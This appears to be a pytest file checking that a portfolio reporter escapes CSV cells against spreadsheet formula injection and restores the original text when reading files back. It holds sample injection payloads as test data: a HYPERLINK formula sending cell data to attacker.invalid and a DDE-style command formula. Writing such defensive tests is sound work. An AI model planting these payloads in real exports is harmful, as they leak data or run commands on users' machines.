"""Text in the results CSVs cannot start a spreadsheet formula (OWASP guidance on CSV
injection): a cell beginning with =, +, - (when not a number), @, tab or carriage return is
written with a leading apostrophe; the HTML keeps the original text; reading an earlier build
back undoes the escape exactly."""

from __future__ import annotations

import csv
import shutil

import pandas as pd
import pytest

from reporter.csvsafe import escape, needs_escape, unescape
from tests.conftest import DEMO, build_at_fixed_epoch

HOSTILE_ID = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SECTOR = "-2+3+cmd"
PLUS_ID = "+4471"            # a number: left alone
TAB_NAME = "\tTab Holdings plc"


@pytest.mark.parametrize("text, escaped", [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"),
    ("-0.5", "-0.5"), ("+3e-2", "+3e-2"), ("-", "'-"), ("Acme plc", "Acme plc"), ("", ""),
])
def test_escape_rules(text, escaped):
    assert escape(text) == escaped
    assert unescape(escaped) == text
    assert needs_escape(text) == (escaped != text)


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    pack = tmp_path_factory.mktemp("inj") / "pack"
    shutil.copytree(DEMO, pack)
    h = pd.read_csv(pack / "holdings.csv", dtype=str)
    r = pd.read_csv(pack / "returns.csv", dtype={"security_id": str})
    ids = {h.loc[0, "security_id"]: HOSTILE_ID, h.loc[1, "security_id"]: PLUS_ID}
    h["security_id"] = h["security_id"].replace(ids)
    r["security_id"] = r["security_id"].replace(ids)
    h.loc[2, "name"] = HOSTILE_NAME
    h.loc[3, "sector"] = HOSTILE_SECTOR
    h.loc[4, "name"] = TAB_NAME
    h.to_csv(pack / "holdings.csv", index=False)
    r.to_csv(pack / "returns.csv", index=False)
    out = tmp_path_factory.mktemp("inj") / "out"
    assert build_at_fixed_epoch(pack, out) == 0
    return pack, out


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_no_results_csv_cell_starts_a_formula(hostile_build):
    _, out = hostile_build
    for name in ("securities.csv", "risk_contributions.csv", "rolling_beta.csv",
                 "period_returns.csv"):
        cells = _cells(out / "results" / name)
        assert cells, name
        # an escaped cell starts with the apostrophe; nothing else may start a formula
        bad = [c for c in cells if needs_escape(c) and not c.startswith("'")]
        assert bad == [], (name, bad[:3])


def test_hostile_text_is_escaped_not_lost(hostile_build):
    _, out = hostile_build
    sec = _cells(out / "results" / "securities.csv")
    assert "'" + HOSTILE_ID in sec and "'" + HOSTILE_NAME in sec
    assert "'" + HOSTILE_SECTOR in sec
    assert TAB_NAME.strip() in sec                  # inputs are trimmed on the way in
    assert PLUS_ID in sec                           # a number-like id is not changed
    assert "'" + HOSTILE_ID in _cells(out / "results" / "rolling_beta.csv")
    assert "'" + HOSTILE_ID in _cells(out / "results" / "risk_contributions.csv")


def test_html_keeps_the_original_text_escaped_for_html(hostile_build):
    _, out = hostile_build
    html = (out / "pack.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://attacker.invalid/?&#34;&amp;A1,&#34;open&#34;)" in html
    assert "'=HYPERLINK" not in html and "&#39;=HYPERLINK" not in html


def test_reading_the_build_back_restores_the_ids(hostile_build, tmp_path):
    from reporter.changes import read_build

    _, out = hostile_build
    prev = read_build(out, "build", pd.Timestamp("2026-12-31").date())
    ids = set(prev.securities["security_id"])
    assert HOSTILE_ID in ids and PLUS_ID in ids
    assert HOSTILE_NAME in set(prev.securities["name"])


def test_the_site_reads_the_original_text_back(hostile_build):
    """The trustees' site reads an archived results CSV back and shows each name as the
    custodian wrote it: the CSV escape's apostrophe removed (pandas 3 reads text as its
    ``str`` dtype, not ``object``; the unescape once skipped every such column)."""
    from reporter.site.gather import SECURITY_COLUMNS, _csv

    _, out = hostile_build
    problems = []
    sec = _csv(out, "results/securities.csv", SECURITY_COLUMNS, problems)
    assert problems == []
    assert HOSTILE_ID in set(sec["security_id"]) and HOSTILE_NAME in set(sec["name"])
    assert HOSTILE_SECTOR in set(sec["sector"])
    assert not any(str(v).startswith("'") for col in ("security_id", "name", "sector")
                   for v in sec[col])
